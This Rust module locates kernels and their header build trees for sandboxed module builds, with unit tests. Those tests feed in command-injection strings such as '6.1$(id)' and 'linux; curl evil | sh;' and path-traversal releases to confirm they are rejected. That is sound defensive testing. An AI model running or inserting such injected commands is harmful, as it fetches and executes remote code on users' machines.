//! The kernels of a system: those installed under a root, or a build tree given by path.
//!
//! A kernel is a directory `/lib/modules/R` (or `/usr/lib/modules/R`), and, if its headers are installed, a build tree
//! to which `build` leads. A build tree is rarely one directory. Debian's consists of three:
//!
//! ```text
//! /lib/modules/6.1.0-56-amd64/build -> /usr/src/linux-headers-6.1.0-56-amd64     .config, generated headers, Module.symvers
//!     Makefile: include /usr/src/linux-headers-6.1.0-56-common/Makefile          headers of every flavour
//!     scripts   -> ../../lib/linux-kbuild-6.1/scripts                            programs, shared by all 6.1 kernels
//! ```
//!
//! `source` leads to the kernel's source, or to the part of it that a package contains. On Debian and SUSE that is
//! another directory than the build tree, and the `configure` scripts of ZFS and NVIDIA look for headers there:
//!
//! ```text
//! /lib/modules/6.1.0-56-amd64/source -> /usr/src/linux-headers-6.1.0-56-common
//! ```
//!
//! [`BuildTree::mounts`] lists all of them: what a build sees and what a build's key covers are the same list. Links
//! are followed at most one directory deep, where kernel packages have them; targets of deeper links out of the tree
//! are not visible to builds, so nothing unlisted can affect one.

use std::io;
use std::io::Read;
use std::path::{Path, PathBuf};

use fs_err as fs;

use crate::bounded_read::{self, MOST_DATA};
use crate::compress::Compression;
use crate::kconfig::Kconfig;
use crate::release;
use crate::rootfs::Root;

/// Why a kernel could not be read.
#[derive(Debug, thiserror::Error)]
pub enum Error {
    /// A file could not be read.
    #[error(transparent)]
    Io(#[from] io::Error),
    /// The path is not a kernel build tree.
    #[error("{} is not a kernel build tree: it has no {missing}", path.display())]
    NotABuildTree {
        /// Path of the directory.
        path: PathBuf,
        /// A file that every prepared build tree has.
        missing: &'static str,
    },
    /// A build tree contains a release that cannot be one.
    #[error("{} is not a kernel build tree: invalid release '{}'", path.display(), text.escape_debug())]
    NoRelease {
        /// Path of the directory.
        path: PathBuf,
        /// The invalid release.
        text: String,
    },
}

/// A kernel of the system, or a build tree.
#[derive(Clone, Debug)]
pub struct Kernel {
    /// Release, as `uname -r` prints it.
    pub release: String,
    /// Path of `/lib/modules/R` on this machine; `None` for a build tree of a kernel that is not installed.
    pub modules: Option<PathBuf>,
    /// The build tree, or why there is none.
    pub headers: Headers,
    /// The image's build, as `uname -v` prints it, if there is an image that contains it.
    pub image_version: Option<String>,
}

/// Whether modules can be compiled for a kernel.
#[derive(Clone, Debug)]
pub enum Headers {
    /// They can, against this build tree.
    Present(Box<BuildTree>),
    /// No build tree is installed.
    Missing,
    /// The build tree belongs to another kernel.
    Wrong {
        /// Path of the build tree.
        path: PathBuf,
        /// The release it was prepared for.
        found: String,
    },
}

/// A prepared kernel build tree, with all directories it refers to.
#[derive(Clone, Debug)]
pub struct BuildTree {
    /// Path in the sandbox.
    pub inside: PathBuf,
    /// Target of `/lib/modules/R/source` in the sandbox: the tree itself if the kernel has no separate source.
    pub source: PathBuf,
    /// Every directory that belongs to it, the tree itself first.
    pub mounts: Vec<Mount>,
    /// `.config`.
    pub config: Kconfig,
    /// The architecture, as `uname -m` prints it (`x86_64`, `aarch64`).
    pub arch: String,
    /// `uname -v`.
    pub version: String,
}

/// A directory of this machine, with its path in the sandbox.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct Mount {
    /// Path on this machine.
    pub outside: PathBuf,
    /// Path in the sandbox.
    pub inside: PathBuf,
}

impl Kernel {
    /// The build tree, if it belongs to this kernel.
    pub fn build_tree(&self) -> Option<&BuildTree> {
        match &self.headers {
            Headers::Present(tree) => Some(tree),
            Headers::Missing | Headers::Wrong { .. } => None,
        }
    }

    /// The versions of image and headers, if they are from two builds of one release: distributions rebuild kernels
    /// without renaming them.
    pub fn builds_differ(&self) -> Option<(&str, &str)> {
        let (image, headers) = (self.image_version.as_deref()?, self.build_tree()?.version.as_str());
        (image != headers && !headers.is_empty()).then_some((image, headers))
    }
}

impl BuildTree {
    /// Path of the tree's own directory on this machine.
    pub fn outside(&self) -> &Path {
        &self.mounts[0].outside
    }

    /// Whether the tree's own files are unchanged since they were read.
    pub fn is_current(&self) -> Result<bool, Error> {
        let now = describe(self.inside.clone(), self.source.clone(), self.mounts.clone())?;
        Ok((now.config, now.arch, now.version)
            == (self.config.clone(), self.arch.clone(), self.version.clone()))
    }

    /// Whether symbol versions are compared when modules are loaded (`CONFIG_MODVERSIONS`).
    pub fn modversions(&self) -> bool {
        self.config.yes("CONFIG_MODVERSIONS")
    }

    /// The compiler that built the kernel: the first line of its `--version` (`CONFIG_CC_VERSION_TEXT`).
    pub fn compiler(&self) -> Option<&str> {
        self.config.value("CONFIG_CC_VERSION_TEXT")
    }

    /// Whether BTF type information is generated for modules, which needs `pahole` and the kernel's own BTF from
    /// `vmlinux`.
    pub fn makes_btf(&self) -> bool {
        self.config.yes("CONFIG_DEBUG_INFO_BTF_MODULES") && self.outside().join("vmlinux").exists()
    }

    /// Contents of `Module.symvers`, which lists every exported symbol; `None` if the tree has none.
    pub fn symvers(&self) -> io::Result<Option<Vec<u8>>> {
        match bounded_read::bytes(self.outside().join("Module.symvers"), MOST_DATA) {
            Ok(text) => Ok(Some(text)),
            Err(e) if e.kind() == io::ErrorKind::NotFound => Ok(None),
            Err(e) => Err(e),
        }
    }
}

/// A kernel's configuration: from its build tree, else the one installed beside its image.
pub fn config(root: &Root, kernel: &Kernel) -> Result<Option<Kconfig>, Error> {
    if let Some(tree) = kernel.build_tree() {
        return Ok(Some(tree.config.clone()));
    }
    let release = &kernel.release;
    let places = [format!("/boot/config-{release}"), format!("/lib/modules/{release}/config")];
    match places.iter().find_map(|path| root.find(path)) {
        Some(path) => Ok(Some(Kconfig::new(bounded_read::config(&path)?))),
        None => Ok(None),
    }
}

/// The compression of in-tree modules (kernel/module/Kconfig). Since 6.12 a kernel may support a compression without
/// using it for its own modules; `CONFIG_MODULE_COMPRESS_ALL` shows that.
pub fn compression(config: &Kconfig) -> Compression {
    let all = "CONFIG_MODULE_COMPRESS_ALL";
    if config.mentions(all) && !config.yes(all) {
        return Compression::None;
    }
    [("GZIP", Compression::Gz), ("XZ", Compression::Xz), ("ZSTD", Compression::Zst)]
        .into_iter()
        .find(|(name, _)| config.yes(&format!("CONFIG_MODULE_COMPRESS_{name}")))
        .map_or(Compression::None, |(_, compression)| compression)
}

/// Every kernel under the root's `/lib/modules` and `/usr/lib/modules`, oldest first.
pub fn installed(root: &Root) -> Result<Vec<Kernel>, Error> {
    trees(root)?.into_iter().map(|(release, dir)| read_installed(root, release, dir)).collect()
}

/// The installed kernel of exactly this release.
pub fn of_release(root: &Root, release: &str) -> Result<Option<Kernel>, Error> {
    let found = trees(root)?.into_iter().find(|(other, _)| other == release);
    found.map(|(release, dir)| read_installed(root, release, dir)).transpose()
}

/// The directories of installed or removed kernels' modules, with their releases, oldest first. Directories whose name
/// cannot be a release are ignored.
pub fn trees(root: &Root) -> Result<Vec<(String, PathBuf)>, Error> {
    let mut found: Vec<(String, PathBuf)> = Vec::new();
    for parent in modules_dirs(root) {
        for entry in fs::read_dir(parent)? {
            let entry = entry?;
            let Ok(name) = entry.file_name().into_string() else { continue };
            let new = !found.iter().any(|(release, _)| *release == name);
            if new && release::is_plain(&name) && entry.file_type()?.is_dir() {
                found.push((name, entry.path()));
            }
        }
    }
    found.sort_by(|a, b| release::compare(&a.0, &b.0));
    Ok(found)
}

/// Paths on this machine of the root's `/lib/modules` and `/usr/lib/modules`, usually one directory.
pub fn modules_dirs(root: &Root) -> Vec<PathBuf> {
    let mut dirs: Vec<PathBuf> =
        ["/lib/modules", "/usr/lib/modules"].iter().filter_map(|dir| root.find(dir)).collect();
    dirs.dedup();
    dirs
}

/// Reads a kernel build tree given by path. If the kernel is installed under the root, its modules are installed
/// there.
///
/// # Errors
///
/// [`Error::NotABuildTree`] or [`Error::NoRelease`] if the path is not a prepared build tree.
pub fn at_path(root: &Root, path: &Path) -> Result<Kernel, Error> {
    let path = fs::canonicalize(path)?;
    let release = tree_release(&path).ok_or_else(|| Error::NotABuildTree {
        path: path.clone(),
        missing: "include/config/kernel.release",
    })?;
    if !release::is_plain(&release) {
        return Err(Error::NoRelease { path, text: release });
    }
    let canonical = PathBuf::from(format!("/usr/src/linux-headers-{release}"));
    let modules = ["/lib/modules", "/usr/lib/modules"]
        .iter()
        .find_map(|parent| root.find(format!("{parent}/{release}")))
        .filter(|dir| dir.is_dir());
    let tree = match root.inside(&path).filter(|_| packaged(root, &path)) {
        Some(inside) => {
            let beside = modules
                .as_ref()
                .and_then(|dir| root.inside(dir))
                .filter(|dir| root.resolve(dir.join("build")).is_ok_and(|build| build == inside));
            let source = source_in(root, beside.as_deref().unwrap_or(&inside));
            read_tree(root, inside, source)?
        }
        None => read_foreign_tree(&path, canonical)?,
    };
    let image_version = image_version(root, &release);
    Ok(Kernel { release, modules, headers: Headers::Present(Box::new(tree)), image_version })
}

/// Whether a path is where packages install build trees: there a tree keeps its own path in the sandbox.
fn packaged(root: &Root, path: &Path) -> bool {
    ["/usr/src", "/usr/lib", "/lib"].iter().filter_map(|dir| root.find(dir)).any(|dir| path.starts_with(dir))
}

fn read_installed(root: &Root, release: String, modules: PathBuf) -> Result<Kernel, Error> {
    let inside = root.inside(&modules).unwrap_or_else(|| modules.clone());
    let places = [
        inside.join("build"),
        PathBuf::from(format!("/usr/src/linux-headers-{release}")),
        PathBuf::from(format!("/usr/src/kernels/{release}")),
    ];
    let tree = places.iter().filter_map(|place| root.resolve(place).ok()).find(|dir| {
        root.outside(dir.join("Makefile")).exists() && root.outside(dir.join(".config")).exists()
    });
    let headers = match tree {
        None => Headers::Missing,
        Some(dir) => match tree_release(&root.outside(&dir)) {
            Some(found) if found != release => Headers::Wrong { path: root.outside(&dir), found },
            _ => Headers::Present(Box::new(read_tree(root, dir, source_in(root, &inside))?)),
        },
    };
    let image_version = image_version(root, &release);
    Ok(Kernel { release, modules: Some(modules), headers, image_version })
}

/// The release that a build tree was prepared for. Modules are compiled with `utsrelease.h`, so it takes precedence:
/// Debian's `kernel.release` contains the upstream version.
fn tree_release(dir: &Path) -> Option<String> {
    if let Ok(header) = bounded_read::config(&dir.join("include/generated/utsrelease.h")) {
        return define(&header, "UTS_RELEASE").map(str::to_owned);
    }
    let text = bounded_read::config(&dir.join("include/config/kernel.release")).ok()?;
    Some(text.trim().to_owned())
}

/// Target of the link or directory `source` in a directory: `/lib/modules/R` (Makefile, `modules_install`), or a build
/// tree separate from its source (`O=`). `None` if it contains no kernel source, as when the link was copied to
/// another machine than the one that built the kernel.
fn source_in(root: &Root, dir: &Path) -> Option<PathBuf> {
    let source = root.resolve(dir.join("source")).ok()?;
    let has = |name: &str| root.find(source.join(name)).is_some();
    (has("Makefile") && has("include")).then_some(source)
}

/// Reads a tree under the root, at its own path `inside`, with the kernel's source if that is another directory.
fn read_tree(root: &Root, inside: PathBuf, source: Option<PathBuf>) -> Result<BuildTree, Error> {
    let source = source.unwrap_or_else(|| inside.clone());
    let mut mounts = Vec::new();
    let add = |mounts: &mut Vec<Mount>, inside: PathBuf| {
        if !mounts.iter().any(|mount| inside.starts_with(&mount.inside)) {
            mounts.push(Mount { outside: root.outside(&inside), inside });
        }
    };
    add(&mut mounts, inside.clone());
    let mut next = 0;
    loop {
        if next == mounts.len() {
            // Last, so that it is listed once if the build tree refers to it, too.
            add(&mut mounts, source.clone());
        }
        let Some(mount) = mounts.get(next) else { break };
        for reached in reaches(&mount.outside.clone(), &mount.inside.clone())? {
            let Ok(inside) = root.resolve(&reached) else { continue };
            add(&mut mounts, inside);
        }
        next += 1;
    }
    describe(inside, source, mounts)
}

/// Reads a tree elsewhere. It is mounted at a canonical path, unless it refers to directories outside itself: then its
/// paths are absolute or relative to its location, and it keeps its own path.
fn read_foreign_tree(path: &Path, canonical: PathBuf) -> Result<BuildTree, Error> {
    if reaches(path, path)?.iter().any(|reached| !reached.starts_with(path)) {
        let root = Root::new("/");
        return read_tree(&root, path.to_owned(), source_in(&root, path));
    }
    describe(
        canonical.clone(),
        canonical.clone(),
        vec![Mount { outside: path.to_owned(), inside: canonical }],
    )
}

fn describe(inside: PathBuf, source: PathBuf, mounts: Vec<Mount>) -> Result<BuildTree, Error> {
    let dir = &mounts[0].outside;
    let config = Kconfig::new(bounded_read::config(&dir.join(".config"))?);
    let generated =
        |name: &str| bounded_read::config(&dir.join("include/generated").join(name)).unwrap_or_default();
    let (uts, compile) = (generated("utsversion.h"), generated("compile.h"));
    let version = define(&uts, "UTS_VERSION")
        .or_else(|| define(&compile, "UTS_VERSION"))
        .unwrap_or_default()
        .to_owned();
    let arch = define(&compile, "UTS_MACHINE").unwrap_or_else(|| self::arch(&config)).to_owned();
    Ok(BuildTree { inside, source, mounts, config, arch, version })
}

/// Directories that a build tree refers to: targets of its links, and directories of the Makefiles that its own
/// includes. Paths are as in the sandbox; they need not exist.
fn reaches(outside: &Path, inside: &Path) -> Result<Vec<PathBuf>, Error> {
    let mut found = included_makefiles(&outside.join("Makefile"))?;
    let mut directories = vec![(outside.to_owned(), inside.to_owned())];
    for entry in fs::read_dir(outside)? {
        let entry = entry?;
        if entry.file_type()?.is_dir() && entry.file_name() != ".git" {
            directories.push((entry.path(), inside.join(entry.file_name())));
        }
    }
    for (outside, inside) in directories {
        for entry in fs::read_dir(&outside)? {
            let entry = entry?;
            if entry.file_type()?.is_symlink() {
                found.push(lexical(&inside.join(fs::read_link(entry.path())?)));
            }
        }
    }
    found.retain(|path| !path.starts_with(inside));
    found.sort();
    Ok(found)
}

/// Directories of the Makefiles that a Makefile includes by absolute path, as in Debian's header packages.
fn included_makefiles(makefile: &Path) -> Result<Vec<PathBuf>, Error> {
    let text = match bounded_read::config(makefile) {
        Ok(text) => text,
        Err(e) if e.kind() == io::ErrorKind::NotFound => return Ok(Vec::new()),
        Err(e) => return Err(e.into()),
    };
    let included = |line: &str| {
        let path = line.strip_prefix("include ")?.trim();
        path.starts_with('/').then(|| Path::new(path).parent().map(Path::to_owned))?
    };
    Ok(text.lines().filter_map(included).collect())
}

/// Removes `.` and `..` from a path, textually.
fn lexical(path: &Path) -> PathBuf {
    let mut plain = PathBuf::new();
    for part in path.components() {
        match part {
            std::path::Component::ParentDir => drop(plain.pop()),
            std::path::Component::CurDir => {}
            part => plain.push(part),
        }
    }
    plain
}

/// The string that a generated header defines for a name.
fn define<'a>(header: &'a str, name: &str) -> Option<&'a str> {
    header
        .lines()
        .find_map(|line| {
            line.strip_prefix("#define ")?.trim_start().strip_prefix(name)?.trim().strip_prefix('"')
        })
        .and_then(|rest| rest.strip_suffix('"'))
}

/// The architecture as `uname -m` prints it, from a configuration alone, if there is no `compile.h` (arch/*/Makefile,
/// UTS_MACHINE).
pub fn arch(config: &Kconfig) -> &'static str {
    let known = [
        ("CONFIG_X86_64", "x86_64"),
        ("CONFIG_X86_32", "i686"),
        ("CONFIG_ARM64", "aarch64"),
        ("CONFIG_ARM", "armv7l"),
        ("CONFIG_PPC64", "ppc64le"),
        ("CONFIG_S390", "s390x"),
        ("CONFIG_RISCV", "riscv64"),
        ("CONFIG_LOONGARCH", "loongarch64"),
    ];
    known.iter().find(|(symbol, _)| config.yes(symbol)).map_or("unknown", |(_, arch)| arch)
}

/// Path of a kernel's bootable image, if installed.
pub fn image(root: &Root, release: &str) -> Option<PathBuf> {
    images(release).iter().find_map(|path| root.find(path))
}

/// Paths at which packages install a kernel's image.
pub fn images(release: &str) -> [String; 2] {
    [format!("/boot/vmlinuz-{release}"), format!("/lib/modules/{release}/vmlinuz")]
}

/// The build of an image, as `uname -v` prints it.
fn image_version(root: &Root, release: &str) -> Option<String> {
    let text =
        images(release).iter().filter_map(|path| root.find(path)).find_map(|path| image_text(&path))?;
    text.find('#').map(|start| text[start..].to_owned())
}

/// The release in a bootable image.
pub fn image_release(path: &Path) -> Option<String> {
    image_text(path)?.split_ascii_whitespace().next().map(str::to_owned)
}

fn image_text(path: &Path) -> Option<String> {
    let mut head = Vec::new();
    // The setup code and the text are in the first 64 KiB, because the offset has 16 bits.
    bounded_read::open(path).ok()?.take(0x1_0400).read_to_end(&mut head).ok()?;
    bz_image_text(&head)
}

/// The version text in the header of an x86 kernel image (Documentation/arch/x86/boot.rst: `kernel_version`, a 16-bit
/// offset at 0x20e, counted from 0x200). It is `RELEASE (BUILDER) #1 SMP ...`; `uname -v` begins at the `#`.
fn bz_image_text(head: &[u8]) -> Option<String> {
    if head.get(0x202..0x206)? != b"HdrS" {
        return None;
    }
    let offset = u16::from_le_bytes(head.get(0x20e..0x210)?.try_into().ok()?);
    let text = head.get(0x200 + usize::from(offset)..)?;
    let text = std::str::from_utf8(text.split(|&b| b == 0).next()?).ok()?;
    Some(text.trim_end().to_owned())
}

/// The command that installs a kernel's headers, on the root's distribution (os-release(5)).
pub fn headers_hint(root: &Root, release: &str) -> String {
    let os = ["/etc/os-release", "/usr/lib/os-release"]
        .iter()
        .find_map(|path| bounded_read::config(&root.find(path)?).ok())
        .unwrap_or_default();
    let ids: String = os
        .lines()
        .filter_map(|line| line.strip_prefix("ID=").or_else(|| line.strip_prefix("ID_LIKE=")))
        .map(|value| format!("{} ", value.trim_matches('"')))
        .collect();
    let is = |id: &str| ids.split_whitespace().any(|word| word == id);
    if is("fedora") || is("rhel") || is("centos") {
        format!("dnf install kernel-devel-{release}")
    } else if is("arch") {
        let base = root
            .find(format!("/lib/modules/{release}/pkgbase"))
            .and_then(|path| bounded_read::config(&path).ok());
        format!(
            "pacman -S {}-headers",
            base.as_deref().map(str::trim).filter(|base| release::is_plain(base)).unwrap_or("linux")
        )
    } else if is("suse") || is("opensuse") {
        "zypper install kernel-devel kernel-default-devel".to_owned()
    } else {
        format!("apt install linux-headers-{release}")
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use std::os::unix::fs::symlink;

    #[test]
    fn modules_are_compressed_like_in_tree_ones() {
        let check = |config: &str, expect| {
            assert_eq!(compression(&Kconfig::new(config.to_owned())), expect, "{config}")
        };
        check("CONFIG_MODULE_COMPRESS_NONE=y\n", Compression::None);
        check("CONFIG_MODULE_COMPRESS_GZIP=y\n", Compression::Gz);
        check("CONFIG_MODULE_COMPRESS_XZ=y\n", Compression::Xz);
        check("CONFIG_MODULE_COMPRESS_ZSTD=y\n", Compression::Zst);
        let since_6_12 = "CONFIG_MODULE_COMPRESS=y\nCONFIG_MODULE_COMPRESS_ZSTD=y\n";
        check(&format!("{since_6_12}CONFIG_MODULE_COMPRESS_ALL=y\n"), Compression::Zst);
        check(&format!("{since_6_12}# CONFIG_MODULE_COMPRESS_ALL is not set\n"), Compression::None);
    }

    /// A root with one Debian kernel, whose headers are in three directories.
    fn debian() -> (tempfile::TempDir, Root) {
        let dir = tempfile::tempdir().unwrap();
        let at = |path: &str| dir.path().join(path);
        for path in ["lib/modules/6.1.0-9-x", "usr/lib/linux-kbuild-6.1/scripts", "usr/src/h-common/include"]
        {
            fs::create_dir_all(at(path)).unwrap();
        }
        fs::create_dir_all(at("usr/src/h-x/include/config")).unwrap();
        fs::create_dir_all(at("usr/src/h-x/include/generated")).unwrap();
        fs::write(at("usr/src/h-x/Makefile"), "include /usr/src/h-common/Makefile\n").unwrap();
        fs::write(at("usr/src/h-x/.config"), "CONFIG_X86_64=y\nCONFIG_MODULE_COMPRESS_XZ=y\n").unwrap();
        fs::write(at("usr/src/h-x/include/config/kernel.release"), "6.1.0-9-x\n").unwrap();
        fs::write(at("usr/src/h-x/include/generated/utsversion.h"), "#define UTS_VERSION \"#1 SMP\"\n")
            .unwrap();
        symlink("../../lib/linux-kbuild-6.1/scripts", at("usr/src/h-x/scripts")).unwrap();
        symlink("/usr/src/h-x", at("lib/modules/6.1.0-9-x/build")).unwrap();
        let root = Root::new(dir.path());
        (dir, root)
    }

    #[test]
    fn a_debian_tree_includes_its_common_headers_and_scripts() {
        let (_dir, root) = debian();
        let kernels = installed(&root).unwrap();
        let tree = kernels[0].build_tree().unwrap();
        let inside: Vec<_> = tree.mounts.iter().map(|mount| mount.inside.to_str().unwrap()).collect();
        assert_eq!(inside, ["/usr/src/h-x", "/usr/lib/linux-kbuild-6.1/scripts", "/usr/src/h-common"]);
        assert_eq!((tree.arch.as_str(), tree.version.as_str()), ("x86_64", "#1 SMP"));
        assert_eq!(compression(&tree.config), Compression::Xz);
    }

    /// Target of `source`, and the mounts.
    fn source_of(root: &Root) -> (String, Vec<String>) {
        let kernel = installed(root).unwrap().remove(0);
        let tree = kernel.build_tree().unwrap();
        let mounts = tree.mounts.iter().map(|mount| mount.inside.display().to_string()).collect();
        (tree.source.display().to_string(), mounts)
    }

    #[test]
    fn source_has_the_target_of_the_kernels_own_link() {
        let reached = ["/usr/src/h-x", "/usr/lib/linux-kbuild-6.1/scripts", "/usr/src/h-common"];
        let (dir, root) = debian();
        let link = dir.path().join("lib/modules/6.1.0-9-x/source");
        let check = |target: &str, expect: &str, more: &[&str]| {
            let _ = fs::remove_file(&link);
            symlink(target, &link).unwrap();
            let (source, mounts) = source_of(&root);
            assert_eq!(source, expect, "source -> {target}");
            assert_eq!(mounts, [&reached[..], more].concat(), "source -> {target}");
        };
        for (tree, file) in [("usr/src/h-common", "Makefile"), ("home/me/linux", "Makefile")] {
            fs::create_dir_all(dir.path().join(tree).join("include")).unwrap();
            fs::write(dir.path().join(tree).join(file), "").unwrap();
        }
        fs::create_dir_all(dir.path().join("opt/tools")).unwrap();
        symlink("/opt/tools", dir.path().join("home/me/linux/tools")).unwrap();
        check("/usr/src/h-common", "/usr/src/h-common", &[]);
        check("../../../usr/src/h-common", "/usr/src/h-common", &[]);
        check("/home/me/linux", "/home/me/linux", &["/home/me/linux", "/opt/tools"]);
        // As `make modules_install` leaves it, and what remains on a machine that did not build the kernel.
        check("build", "/usr/src/h-x", &[]);
        check("/build/elsewhere", "/usr/src/h-x", &[]);
        check("/opt", "/usr/src/h-x", &[]);
    }

    #[test]
    fn source_can_be_a_directory_or_missing() {
        let (dir, root) = debian();
        assert_eq!(source_of(&root).0, "/usr/src/h-x");
        let own = dir.path().join("lib/modules/6.1.0-9-x/source");
        fs::create_dir_all(own.join("include")).unwrap();
        fs::write(own.join("Makefile"), "").unwrap();
        let (source, mounts) = source_of(&root);
        assert_eq!(source, "/lib/modules/6.1.0-9-x/source");
        assert_eq!(mounts.last(), Some(&source));
    }

    #[test]
    fn a_tree_given_by_path_has_its_own_source_unless_installed() {
        let (dir, root) = debian();
        let at = |path: &str| dir.path().join(path);
        fs::write(at("usr/src/h-common/Makefile"), "").unwrap();
        symlink("/usr/src/h-common", at("lib/modules/6.1.0-9-x/source")).unwrap();
        let source = |path: &str| at_path(&root, &at(path)).unwrap().build_tree().unwrap().source.clone();
        assert_eq!(source("usr/src/h-x"), Path::new("/usr/src/h-common"));

        // Built with O=: `source` is in the tree itself.
        fs::create_dir_all(at("usr/src/out/include/config")).unwrap();
        fs::write(at("usr/src/out/include/config/kernel.release"), "6.1.0-9-x\n").unwrap();
        fs::write(at("usr/src/out/.config"), "").unwrap();
        assert_eq!(source("usr/src/out"), Path::new("/usr/src/out"));
        symlink("../h-common", at("usr/src/out/source")).unwrap();
        assert_eq!(source("usr/src/out"), Path::new("/usr/src/h-common"));
    }

    #[test]
    fn headers_of_another_release_are_wrong() {
        let (dir, root) = debian();
        fs::write(dir.path().join("usr/src/h-x/include/config/kernel.release"), "6.1.0-8-x\n").unwrap();
        let kernels = installed(&root).unwrap();
        assert!(matches!(&kernels[0].headers, Headers::Wrong { found, .. } if found == "6.1.0-8-x"));
    }

    #[test]
    fn an_image_of_another_build_is_detected() {
        let (_dir, root) = debian();
        let mut kernel = installed(&root).unwrap().remove(0);
        assert_eq!(kernel.builds_differ(), None);
        kernel.image_version = Some("#1 SMP".into());
        assert_eq!(kernel.builds_differ(), None);
        kernel.image_version = Some("#2 SMP".into());
        assert_eq!(kernel.builds_differ(), Some(("#2 SMP", "#1 SMP")));
    }

    #[test]
    fn a_tree_elsewhere_is_mounted_at_a_canonical_path() {
        let (dir, root) = debian();
        let tree = dir.path().join("home/me/linux");
        fs::create_dir_all(tree.join("include/config")).unwrap();
        fs::write(tree.join("include/config/kernel.release"), "6.9.1\n").unwrap();
        fs::write(tree.join(".config"), "").unwrap();
        let kernel = at_path(&root, &tree).unwrap();
        assert_eq!(kernel.build_tree().unwrap().inside, Path::new("/usr/src/linux-headers-6.9.1"));
        assert_eq!(kernel.modules, None);
    }

    #[test]
    fn an_x86_image_contains_its_version() {
        let mut image = vec![0u8; 0x600];
        image[0x202..0x206].copy_from_slice(b"HdrS");
        image[0x20e..0x210].copy_from_slice(&0x300u16.to_le_bytes());
        image[0x500..0x51c].copy_from_slice(b"6.1.0 (me@host) #1 SMP (day)");
        assert_eq!(bz_image_text(&image).as_deref(), Some("6.1.0 (me@host) #1 SMP (day)"));
        assert_eq!(bz_image_text(&image[..0x204]), None);
    }

    /// A tree under `--root`, and a kernel build tree given by path, are untrusted.
    #[test]
    fn what_cannot_be_a_release_is_no_kernel() {
        let (dir, root) = debian();
        let before = trees(&root).unwrap().len();
        for name in ["6.1$(id)", "6.1;id", "6.1 x", "6.1\nx", "-k", "6.1`id`", "6.1'"] {
            fs::create_dir(dir.path().join("lib/modules").join(name)).unwrap();
        }
        assert_eq!(trees(&root).unwrap().len(), before);
        for name in ["6.1.0_1", "6.6.0-rc1+", "6.13~rc4-1", "4.18.0-372.el8.x86_64+debug"] {
            fs::create_dir(dir.path().join("lib/modules").join(name)).unwrap();
            assert!(of_release(&root, name).unwrap().is_some(), "{name}");
        }
        let tree = dir.path().join("usr/src/hostile");
        fs::create_dir_all(tree.join("include/config")).unwrap();
        for text in ["../../etc", "6.1/../..", "6.1$(id)", "."] {
            fs::write(tree.join("include/config/kernel.release"), text).unwrap();
            assert!(matches!(at_path(&root, &tree), Err(Error::NoRelease { .. })), "{text}");
        }
    }

    /// The release of Arch's kernels comes from a file of the tree.
    #[test]
    fn a_hint_holds_one_command() {
        let dir = tempfile::tempdir().unwrap();
        fs::create_dir_all(dir.path().join("etc")).unwrap();
        fs::create_dir_all(dir.path().join("lib/modules/6.1")).unwrap();
        fs::write(dir.path().join("etc/os-release"), "ID=arch\n").unwrap();
        let check = |base: &str, expect: &str| {
            fs::write(dir.path().join("lib/modules/6.1/pkgbase"), base).unwrap();
            assert_eq!(headers_hint(&Root::new(dir.path()), "6.1"), expect);
        };
        check("linux-lts\n", "pacman -S linux-lts-headers");
        check("linux; curl evil | sh;\n", "pacman -S linux-headers");
    }

    #[test]
    fn the_hint_names_the_distributions_own_package() {
        let check = |os: &str, expect: &str| {
            let dir = tempfile::tempdir().unwrap();
            fs::create_dir_all(dir.path().join("etc")).unwrap();
            fs::write(dir.path().join("etc/os-release"), os).unwrap();
            assert_eq!(headers_hint(&Root::new(dir.path()), "6.1"), expect);
        };
        check("ID=ubuntu\nID_LIKE=debian\n", "apt install linux-headers-6.1");
        check("ID=\"rocky\"\nID_LIKE=\"rhel centos fedora\"\n", "dnf install kernel-devel-6.1");
        check("ID=arch\n", "pacman -S linux-headers");
    }
}
